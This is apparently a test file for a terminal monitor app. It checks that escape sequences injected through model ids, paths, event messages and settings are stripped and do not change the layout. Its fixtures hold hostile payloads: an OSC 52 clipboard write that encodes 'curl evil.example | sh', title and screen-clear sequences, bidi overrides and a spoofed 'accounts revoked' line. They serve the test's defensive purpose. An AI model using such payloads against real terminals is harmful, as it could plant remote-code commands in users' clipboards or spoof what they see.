/** @jsxRuntime automatic */
// covers: source/app.tsx, source/components/, source/ui/text-width.ts, source/util/terminal-safe.ts
// Terminal escape injection in the live monitor: a snapshot whose model ids, paths, event messages
// and settings carry escape sequences is drawn without them, and laid out exactly as the same
// snapshot holding only their visible text.
import assert from 'node:assert/strict';
import {after, test, type TestContext} from 'node:test';
import {cleanup} from 'ink-testing-library';
import App from '../source/monitor/app.js';
import type {StoreSnapshot} from '../source/monitor/contract.js';
import {
	FakeStore, makeAccount, makeEvent, makeRequest, makeSnapshot,
} from './helpers/fake-store.js';
import {
	overlongLines, renderAt, waitForFrame, type Rendered,
} from './helpers/ink.js';

after(cleanup);

const osc52 = '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const osc0 = '\u001B]0;pwned\u0007';
const clearScreen = '\u001B[2J\u001B[H';
const fakeLine = 'FAKE all accounts revoked';

// Ink colours text with SGR sequences (ESC [ … m); those are its own. Anything else is not.

const sgr = /\u001B\[[\d;]*m/g;

const dangerous = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

/** The same traffic twice: once as a hostile client and upstream sent it, once as it should look. */
function traffic(hostile: boolean): StoreSnapshot {
	const pick = (evil: string, visible: string) => (hostile ? evil : visible);
	const tsMs = Date.UTC(2026, 10, 26, 12, 0, 5);
	return makeSnapshot({
		accounts: [makeAccount('home'), makeAccount('work')],
		overrides: {
			strategy: null, model: pick(`claude-override${osc0}${'\u009B2J'.repeat(12)}`, 'claude-override'), effort: null, burstRpmLimit: null, fallbackModel: null, alertsMuted: false,
		},
		requests: [
			makeRequest({
				id: 'r1', tsMs, account: 'home', model: 'claude-sonnet-4-6', status: 200,
			}),
			makeRequest({
				id: 'r2', tsMs, account: 'work', model: pick(`claude-evil${clearScreen}FAKE`, 'claude-evilFAKE'), status: 404, path: pick(`/v1/messages${osc52}`, '/v1/messages'),
			}),
			// Short once cleaned, long as raw text: the model column (sized by its widest cell, here
			// sonnet-4-6) must be sized by what is drawn.
			makeRequest({
				id: 'r3', tsMs, account: 'home', model: pick(`claude-ab${'\u009B2J'.repeat(6)}${'\u001Bc'.repeat(4)}\u202E`, 'claude-ab'), status: 429,
			}),
		],
		events: [makeEvent({
			tsMs, kind: 'auth', account: 'home', message: pick(`home: token refresh failed${osc0}${clearScreen}${fakeLine}`, `home: token refresh failed${fakeLine}`),
		})],
	});
}

async function mount(t: TestContext, snapshot: StoreSnapshot, columns: number): Promise<Rendered> {
	const app = await renderAt(<App store={new FakeStore(snapshot)} onQuit={() => {}}/>, columns, 30);
	t.after(() => {
		app.unmount();
	});
	await waitForFrame(app.lastFrame, frame => frame.includes('evil') && frame.includes('token refresh failed'));
	return app;
}

for (const columns of [100, 140]) {
	test(`the monitor draws hostile model ids, paths, events and settings without their escapes, at the right width (${columns} columns)`, async t => {
		const app = await mount(t, traffic(true), columns);
		const raw = app.lastFrame() ?? '';
		assert.ok(!raw.includes('\u001B]'), 'no OSC (clipboard, title)');
		assert.ok(!raw.includes('\u001B[2J') && !raw.includes('\u001B[H'), 'no screen clear or cursor move');
		assert.ok(!raw.includes('\u0007'), 'no BEL');
		const drawn = raw.replaceAll(sgr, '');
		const hit = dangerous.exec(drawn);
		assert.equal(hit, null, `frame carries U+${hit?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} near ${JSON.stringify(drawn.slice(Math.max(0, (hit?.index ?? 0) - 30), (hit?.index ?? 0) + 30))}`);
		assert.deepEqual(overlongLines(drawn, columns), [], 'no line is wider than the terminal');

		// Laid out exactly like the same snapshot holding only the visible text: the same rows, the
		// same column widths, the same header. (Only lines without a running clock are compared.)
		const twin = await mount(t, traffic(false), columns);
		const rows = (frame: string) => frame.split('\n').filter(line => /^\s*\d\d:\d\d:\d\d /.test(line) || line.startsWith('strategy '));
		const expected = rows(twin.frame());
		assert.equal(expected.length, 5, `the twin shows every row:\n${twin.frame()}`);
		assert.deepEqual(rows(app.frame()), expected);
		assert.match(expected.find(line => line.includes('token refresh'))!, /token refresh failedFAKE all accounts revoked/);
	});
}
